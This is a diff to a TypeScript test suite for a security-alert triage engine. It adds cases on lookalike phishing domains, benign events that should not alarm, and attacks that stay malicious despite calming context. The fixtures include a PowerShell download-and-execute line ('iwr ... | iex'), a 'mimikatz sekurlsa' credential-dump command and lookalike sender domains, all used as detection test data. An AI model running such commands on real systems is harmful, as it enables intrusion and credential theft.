@@ -1,3 +1,4 @@
+import type { Classification } from '../../../incidents/incident.js';
 import type { ExtractedIndicator } from '../../evidence/indicators.js';
 import { extractIndicators } from '../../evidence/indicators.js';
 import type { TriageCase } from '../triage-model.port.js';
@@ -26,6 +27,7 @@ describe('the rules, on mails', () => {
     ['a list of lines', { headers: [`Authentication-Results: ${RESULTS}`] }],
     ['a text', { headers: `Received: x\nAuthentication-Results: ${RESULTS}\nX-A: b` }],
     ['one line', { headers: `Authentication-Results: ${RESULTS}` }],
+    ['keys and values', { headers: [{ key: 'Authentication-Results', value: RESULTS }] }],
     ['names and values', { headers: [{ name: 'Authentication-Results', value: RESULTS }] }],
     [
       'what Microsoft Graph sends',
@@ -161,6 +163,149 @@ describe('the rules, on mails', () => {
   });
 });
 
+describe('the rules, on names that are borrowed', () => {
+  it.each([
+    'micros0ft-login.xyz',
+    'rnicrosoft.test',
+    'paypal-verify.test',
+    'docusign.com.evil.example.net',
+    'dropb0x.test',
+  ])('see through %s without any check of the sender', async (domain) => {
+    const { points } = await judge({ sender: `it@${domain}`, recipient: 'bob@corp.example' });
+    expect(points.map(({ rule }) => rule)).toContain('name_borrowed');
+  });
+
+  it.each([
+    'microsoft.com',
+    'login.microsoft.com',
+    'microsoft-events.test',
+    'googleplex.test',
+    'acme.sharepoint.com',
+    'secure-login.test',
+    'docusign.com.mcas.ms',
+  ])('leave %s alone', async (domain) => {
+    const { points } = await judge({ sender: `it@${domain}`, recipient: 'bob@corp.example' });
+    expect(points.map(({ rule }) => rule)).not.toContain('name_borrowed');
+  });
+});
+
+describe('the rules, on everyday events', () => {
+  it.each<[string, RawData]>([
+    [
+      'a logon by lsass',
+      { EventID: 4624, ProcessName: 'C:\\Windows\\System32\\lsass.exe', LogonType: 5 },
+    ],
+    ['lsass as a child', { process: { name: 'svchost.exe', children: ['lsass.exe'] } }],
+    [
+      'antivirus that asks lsass for its state',
+      { TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1000' },
+    ],
+    [
+      'a logon in words',
+      {
+        message:
+          'Process Name: C:\\Windows\\System32\\lsass.exe. Network Information: ready to read',
+      },
+    ],
+    ['a host of a mine', { alert: 'Disk 90 % full', host: 'mining-erp-01' }],
+    ['a department of miners', { user: 'ann', department: 'Mining', result: 'success' }],
+    ['a user of a mining company', { user: 'ann@acme-mining.example', ip: '10.1.2.3' }],
+    [
+      'a report on coins',
+      {
+        sender: 'a@corp.example',
+        subject: 'Cryptocurrency market report',
+        attachments: [{ filename: 'cryptocurrency-q4.pdf' }],
+        ...PASSED,
+      },
+    ],
+    ['files that were synchronised', { alert: 'Sync finished', filesModified: 320 }],
+    ['a checkout', { process: 'git.exe', signed: true, files_renamed: 140 }],
+    ['a set-up without a person', { alert: 'Autopilot finished', unattended: true }],
+    ['somebody called Ransom', { user: 'john.ransom', display_name: 'John Ransom' }],
+    ['a town called Trojan', { host: 'trojan-ny-vpn01', site: 'Virus Research Institute' }],
+    ['a patch', { title: 'Security update fixes exploit in print spooler' }],
+    ['a keychain that its owner opened', { message: 'User unlocked login.keychain-db' }],
+    ['an unwanted program that was stopped', { threat: 'PUA:Win32/A', action: 'blocked' }],
+    ['a loader of data', { application: 'Data Loader', user: 'ann' }],
+  ])('see no attack in %s', async (_, rawData) => {
+    expect((await judge(rawData)).classification).toBe('inconclusive');
+  });
+
+  it('count the name of malware where a tool says it, whatever the machine is called', async () => {
+    const { classification } = await judge({ host: 'ws-1', user: 'x', threat: 'Trojan.Generic' });
+    expect(classification).toBe('suspicious');
+  });
+});
+
+describe('the rules, on attacks that a calming fact stands beside', () => {
+  it.each<[Classification, string, RawData]>([
+    ['malicious', 'a note on many hosts', { file: 'HOW_TO_RECOVER.txt', host_count: 212 }],
+    ['inconclusive', 'a new service on many hosts', { alert: 'New service', hostCount: 180 }],
+    [
+      'suspicious',
+      'a spray that repeats',
+      { rule: 'Password spray', user_count: 90, repeats_per_day: 300, client_count: 60 },
+    ],
+    [
+      'malicious',
+      'a spray that got in',
+      { rule: 'Password spray', failed_users: 240, successes: 1 },
+    ],
+    ['inconclusive', 'calls by the minute', { alert: 'POST', repeats_per_day: 1440 }],
+    ['inconclusive', 'copies of a leaver', { factor: 'fido2', files: 18000, destination: 'USB' }],
+    ['inconclusive', 'an export by a number', { alert: 'Export', ticket: 'CHG-99999' }],
+    [
+      'suspicious',
+      'a new account of a known supplier',
+      {
+        sender: 'ap@vendor.example',
+        body: 'Our bank account has changed. Use the new IBAN.',
+        vendor_known: true,
+        prior_messages: 140,
+        ...PASSED,
+      },
+    ],
+    [
+      'suspicious',
+      'a signed driver with holes',
+      { alert: 'Vulnerable driver loaded: RTCore64.sys', signed: true, signature_valid: true },
+    ],
+    [
+      'inconclusive',
+      'a program of the management',
+      {
+        process: 'updater.exe',
+        trusted: true,
+        signed: true,
+        deployed_by: 'intune',
+        prevalence: 9e2,
+      },
+    ],
+    ['malicious', 'a known beacon', { alert: 'Cobalt Strike beacon', seen_before: 44 }],
+    [
+      'malicious',
+      'a dump within a window',
+      { cmd: 'mimikatz sekurlsa', change: 'CHG-1000', in_maintenance_window: true },
+    ],
+    [
+      'malicious',
+      'one engine of many that finds nothing',
+      { positives: 69, engines: { a: 'Gen:Variant', b: 'undetected' } },
+    ],
+    ['malicious', 'a rule that hides mail', { mfa: 'passkey', event: 'New inbox rule' }],
+    ['malicious', 'a wave of mails', { ...PHISH, spf: 'fail', dmarc: 'fail', others_today: 240 }],
+    ['malicious', 'a download that is run', { cmd: 'powershell iwr http://one.test/a | iex' }],
+    [
+      'malicious',
+      'many changed files with a new ending',
+      { process: 'sync.exe', filesModified: 900, new_extension: '.x7' },
+    ],
+  ])('judge as %s: %s', async (classification, _, rawData) => {
+    expect((await judge(rawData)).classification).toBe(classification);
+  });
+});
+
 describe('the rules, on machines, accounts and servers', () => {
   it.each<[string, string, RawData]>([
     [
@@ -220,7 +365,7 @@ describe('the rules, on machines, accounts and servers', () => {
       { message: 'Users say that files have the extension .locked and a note asks for bitcoin' },
     ],
     [
-      'benign',
+      'inconclusive',
       'a mistyped password',
       { failed_attempts: 3, result: 'success', mfa: 'passed', ip: '10.1.1.4' },
     ],
